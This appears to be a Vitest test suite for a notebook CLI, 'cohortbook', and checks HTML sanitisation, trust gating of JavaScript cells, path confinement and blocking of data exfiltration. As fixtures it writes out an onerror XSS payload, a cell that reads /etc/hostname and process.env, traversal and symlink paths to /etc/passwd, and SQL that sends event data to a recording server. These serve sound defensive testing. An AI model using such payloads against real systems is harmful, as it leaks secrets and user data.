import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, test } from 'vitest';
import { startRecordingServer } from '../helpers/recording-server.ts';

const run = promisify(execFile);
const ROOT = resolve(import.meta.dirname, '..', '..');
let dir: string;

async function cohortbook(...args: string[]) {
  try {
    const { stdout, stderr } = await run(process.execPath, [join(ROOT, 'bin', 'cohortbook.js'), ...args], { cwd: ROOT, maxBuffer: 64 << 20 });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'cohortbook-run-'));
  writeFileSync(join(dir, 'orders.csv'), 'customer_id,created_at,total\nc1,2024-01-01T10:00:00Z,30\nc2,2024-01-02T10:00:00Z,12\nc1,2024-02-01T10:00:00Z,8\n');
  writeFileSync(join(dir, 'report.md'), `---
title: Orders
---

# Orders report

<img src=x onerror="alert(1)">

\`\`\`sql id=by_customer
SELECT user_id, count(*) AS orders, sum(revenue) AS revenue FROM events GROUP BY 1 ORDER BY 1
\`\`\`

\`\`\`js
Plot.barX(by_customer, { x: 'revenue', y: 'user_id' }).plot()
\`\`\`

\`\`\`js
const best = by_customer.orderby(aq.desc('revenue')).get('user_id', 0);
best
\`\`\`
`);
  writeFileSync(join(dir, 'snoop.md'), `# Snoop

\`\`\`js
const fs = await import('node:fs');
const secrets = fs.readFileSync('/etc/hostname', 'utf8') + ' ' + JSON.stringify(process.env);
secrets
\`\`\`

\`\`\`sql id=counted
SELECT count(*)::INTEGER AS n FROM events
\`\`\`
`);
  writeFileSync(join(dir, 'broken.md'), '# Broken\n\n```sql id=a\nSELECT nope FROM events\n```\n\n```sql id=b\nSELECT 1 AS one\n```\n');
});

describe('cohortbook run', () => {
  test('renders a notebook headless to a static report with tables, charts and values', async () => {
    const out = join(dir, 'report.html');
    const { code, stdout, stderr } = await cohortbook('run', join(dir, 'report.md'), '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--trust', '--out', out);
    expect(stderr).toMatch(/loaded orders\.csv: 3 events of 2 users/);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({ title: 'Orders', cells: 4, failed: [], out });
    const html = readFileSync(out, 'utf8');
    expect(html).toMatch(/<h1>Orders report<\/h1>/);
    expect(html).toMatch(/<tr><td>c1<\/td><td class="n">2<\/td><td class="n">38<\/td><\/tr><tr><td>c2<\/td><td class="n">1<\/td><td class="n">12<\/td><\/tr>/);
    expect(html).toMatch(/<svg[^>]*class="plot[^"]*"/);
    expect(html).toMatch(/<pre>c1<\/pre>/);
    expect(html).not.toMatch(/onerror|<script/i);
    expect(html).toMatch(/Content-Security-Policy" content="default-src 'none'/);
  });

  test('a failing cell is listed, the report still written, exit 1', async () => {
    const out = join(dir, 'broken.html');
    const { code, stdout, stderr } = await cohortbook('run', join(dir, 'broken.md'), '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--out', out);
    expect(code).toBe(1);
    expect(JSON.parse(stdout).failed).toEqual([{ cell: 2, name: 'a', error: expect.stringMatching(/nope/) }]);
    expect(stderr).toMatch(/cell 2 "a": .*nope/);
    expect(readFileSync(out, 'utf8')).toMatch(/<td class="n">1<\/td>/);
  });

  test('without --trust a JS cell does not run (no file or environment is read), it is reported as not run, exit 3 (issue 14.3)', async () => {
    const out = join(dir, 'snoop.html');
    const hostname = readFileSync('/etc/hostname', 'utf8').trim();
    const { code, stdout, stderr } = await cohortbook('run', join(dir, 'snoop.md'), '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--out', out);
    expect(code).toBe(3);
    const output = JSON.parse(stdout);
    expect(output.failed).toEqual([]);
    expect(output.not_run).toEqual([{ cell: 2, name: null, reason: 'JavaScript from someone else does not run until you trust this notebook' }]);
    expect(stderr).toMatch(/^1 cell did not run \(1 JavaScript, the rest reading them\): JavaScript cells run only with --trust/m);
    const html = readFileSync(out, 'utf8');
    expect(html).not.toContain(hostname);
    expect(html).not.toContain('"PATH"');
    expect(html).toMatch(/<td class="n">3<\/td>/);
    // with --trust it runs, with Node's powers: that is what --trust means
    const trusted = await cohortbook('run', join(dir, 'snoop.md'), '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--trust', '--out', out);
    expect(trusted.code).toBe(0);
    expect(readFileSync(out, 'utf8')).toContain(hostname);
  });

  test('a notebook cohortbook ships runs whole without --trust; a copy of it elsewhere does not', async () => {
    const out = join(dir, 'shipped.html');
    const shipped = await cohortbook('run', 'notebooks/getting-started.md', '--data', 'events=public/samples/shop-events.csv', '--out', out);
    expect(JSON.parse(shipped.stdout).not_run).toEqual([]);
    const copy = join(dir, 'getting-started.md');
    writeFileSync(copy, readFileSync(join(ROOT, 'notebooks', 'getting-started.md')));
    const copied = await cohortbook('run', copy, '--data', 'events=public/samples/shop-events.csv', '--out', out);
    expect(copied.code).toBe(3);
    expect(JSON.parse(copied.stdout).not_run.length).toBeGreaterThan(0);
  });

  // One test per path: each runs the whole CLI, and seven in one test outlast its timeout on a loaded machine.
  const frontMatterPaths: [string, number, RegExp][] = [
    ['local.csv', 0, /loaded local\.csv: 1 events of 1 users/],
    ['samples/shop-events.csv', 0, /loaded shop-events\.csv: 25,137 events/],
    ['../orders.csv', 1, /^cohortbook: notebook data "\.\.\/orders\.csv": a path that leads out of the notebook's folder; a notebook may name files only in its own folder or in cohortbook's public\/ folder \(name any other file with --data name=FILE\)$/m],
    ['/etc/passwd', 1, /^cohortbook: notebook data "\/etc\/passwd": an absolute path; a notebook may name files only/m],
    ['passwd.csv', 1, /^cohortbook: notebook data "passwd\.csv": a link that leads out of its folder/m],
    ['samples/../../package.json', 1, /^cohortbook: notebook data "samples\/\.\.\/\.\.\/package\.json": a path that leads out/m],
  ];
  const pathNotebook = (data: string) => `---\ndata: ${data}\n---\n\n\`\`\`sql id=n\nSELECT count(*)::INTEGER AS n FROM events\n\`\`\`\n`;
  function notebookFolder(): string {
    const inner = mkdtempSync(join(dir, 'nb-'));
    writeFileSync(join(inner, 'local.csv'), 'user_id,event,ts\nu1,signup,2024-01-01T00:00:00Z\n');
    symlinkSync('/etc/passwd', join(inner, 'passwd.csv'));
    return inner;
  }

  test.each(frontMatterPaths)("front-matter data %j stays in the notebook's folder or public/ (issue 14.3)", async (data, code, message) => {
    const inner = notebookFolder();
    writeFileSync(join(inner, 'nb.md'), pathNotebook(data));
    const result = await cohortbook('run', join(inner, 'nb.md'), '--out', join(inner, 'nb.html'));
    expect([data, result.code]).toEqual([data, code]);
    expect(result.stderr).toMatch(message);
  });

  test('a file outside the notebook\'s folder loads when the person names it with --data (issue 14.3)', async () => {
    const inner = notebookFolder();
    writeFileSync(join(inner, 'nb.md'), pathNotebook('../orders.csv'));
    const named = await cohortbook('run', join(inner, 'nb.md'), '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--out', join(inner, 'nb.html'));
    expect(named.code).toBe(0);
  });

  test.each(['wasm', 'native'])('a notebook whose SQL tries to send the data out gets nothing out, on %s (issue 14.1)', async (engine) => {
    const recorder = await startRecordingServer();
    try {
      const notebook = join(dir, `exfil-${engine}.md`);
      writeFileSync(notebook, [
        '```sql', `SET VARIABLE u = '${recorder.url}/leak?d=' || (SELECT string_agg(user_id, ',') FROM events)`, '```', '',
        '```sql', "SELECT * FROM read_csv(getvariable('u'))", '```', '',
        '```sql id=two', `SELECT 1 AS x; COPY (SELECT * FROM events) TO '${recorder.url}/copy.csv'`, '```', '',
        '```sql', "SELECT * FROM read_csv('/etc/passwd')", '```', '',
      ].join('\n'));
      const { code, stdout } = await cohortbook('run', notebook, '--engine', engine, '--data', `events=${join(dir, 'orders.csv')}`, '--map', 'event=:purchase', '--out', join(dir, `exfil-${engine}.html`));
      expect(code).toBe(1);
      expect(JSON.parse(stdout).failed).toEqual([
        { cell: 2, name: null, error: expect.stringMatching(/^a cell can use only the data loaded into the notebook: "http:\/\/127\.0\.0\.1:\d+\/leak\?d=c1,c2,c1" is outside it$/) },
        { cell: 3, name: 'two', error: 'a SQL cell runs one statement, and this one holds 2 (the second begins at line 1, column 16): put each in a cell of its own' },
        { cell: 4, name: null, error: expect.stringMatching(/^a cell can use only the data loaded into the notebook: "\/etc\/passwd" is outside it$/) },
      ]);
      expect(recorder.requests).toEqual([]);
    } finally {
      await recorder.close();
    }
  });

  test('a missing notebook is named', async () => {
    const { code, stderr } = await cohortbook('run', join(dir, 'nope.md'), '--out', join(dir, 'x.html'));
    expect(code).toBe(1);
    expect(stderr).toMatch(/^cohortbook: notebook ".*nope\.md": not found$/m);
  });
});
